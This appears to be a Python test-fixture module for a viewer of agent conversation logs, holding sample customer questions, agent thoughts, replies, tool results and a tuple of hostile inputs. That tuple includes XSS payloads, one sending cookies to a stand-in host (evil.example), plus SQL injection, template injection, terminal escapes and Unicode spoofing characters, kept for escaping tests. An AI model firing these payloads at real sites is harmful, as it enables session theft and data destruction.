"""Words for the stores of the viewer's tests: what customers ask, what tools answer, and text that means harm."""

from __future__ import annotations

QUESTIONS = (
    "I want to change my flight to New York to tomorrow. My certificate should cover the difference. 我想改签到明天。",
    "How many seats are left on HAT136, and what would business class cost for three passengers?",
    "请帮我取消订单 W2890441,并把钱退回到原来的信用卡。",
    "A train leaves Boston at 9:40 and travels 213 miles at 71 miles per hour. When does it arrive?",
    "My laptop bag was delayed for two days. What compensation do I get as a gold member?",
    "Find the sum of all primes below 200 whose digits add up to a prime.",
    "¿Puedo llevar a mi perro en la cabina en el vuelo de mañana a Madrid?",
    "Write a SQL query that lists the five customers with the highest lifetime value per region.",
)
THOUGHTS = (
    "The customer holds a travel certificate; I have to look at its expiry date before I promise anything.",
    "First the list of candidates, then the filter. A sieve is fast enough here and easy to get right.",
    "I should check the baggage rules of the fare class. 金卡会员的规定不同,需要先查一下。",
    "The question asks for arrival time, so distance over speed gives hours: 213 / 71 = 3 exactly.",
    "Two fares are needed before any difference can be computed. Look both of them up first.",
)
SENTENCES = (
    "Let me check the certificate date first.",
    "The certificate is still valid. I compute the difference.",
    "I need both fares first; I look them up.",
    "The certificate is expired. I tell the customer and offer to pay by card.",
    "好的,我先查询一下您的订单,然后再为您办理改签。",
    "The sum is 1,742, taken over the 27 primes that qualify.",
    "Thank you for waiting. The booking is confirmed, and a receipt is on its way to you.",
    "```python\nprimes = [n for n in range(2, 200) if all(n % d for d in range(2, n))]\nprint(sum(primes))\n```",
)
RESULTS = (
    {"certificate": "certificate_7504069", "amount": 250, "expires": "2024-06-30"},
    {"HAT136": 152, "HAT039": 187},
    {"flights": [{"id": "HAT136", "from": "JFK", "to": "SEA", "seats": 4, "price": 152.0},
                 {"id": "HAT039", "from": "JFK", "to": "SEA", "seats": 0, "price": 187.5}], "truncated": False},
    {"status": "ok", "订单": "W2890441", "refund": 318.4},
)  # fmt: skip
TOOLS = ("search", "python", "book")

HOSTILE = (
    "<script>alert('rolltrace')</script>",
    "<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">",
    '[click me](javascript:alert(1)) and <a href="javascript:alert(2)">here</a>',
    "<svg onload=alert(3)><script>alert(4)</script></svg>",
    "<style>*{display:none}</style><iframe srcdoc='<script>parent.alert(5)</script>'></iframe>",
    "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07 \x00 \x7f \x85",
    "safe \u202eexe.tpj\u202c end \u2066isolated\u2069 \u200bzero\u200d \ufeff",
    "'; DROP TABLE trajectories; -- \" OR 1=1 /* */",
    "{{constructor.constructor('alert(6)')()}} ${alert(7)} {% raw %}",
    "Z̸̡͙̈a̵͇͝l̶̰̒g̷̱̈́o̴͖͊ 👩‍👩‍👧‍👦 ﷽ \ud83d",
    "&lt;b&gt;already escaped&lt;/b&gt; &#60;script&#62;",
)
CORPUS = [*QUESTIONS, *THOUGHTS, *SENTENCES, *(str(each) for each in RESULTS), "<tool_call>", "</think>"] * 3
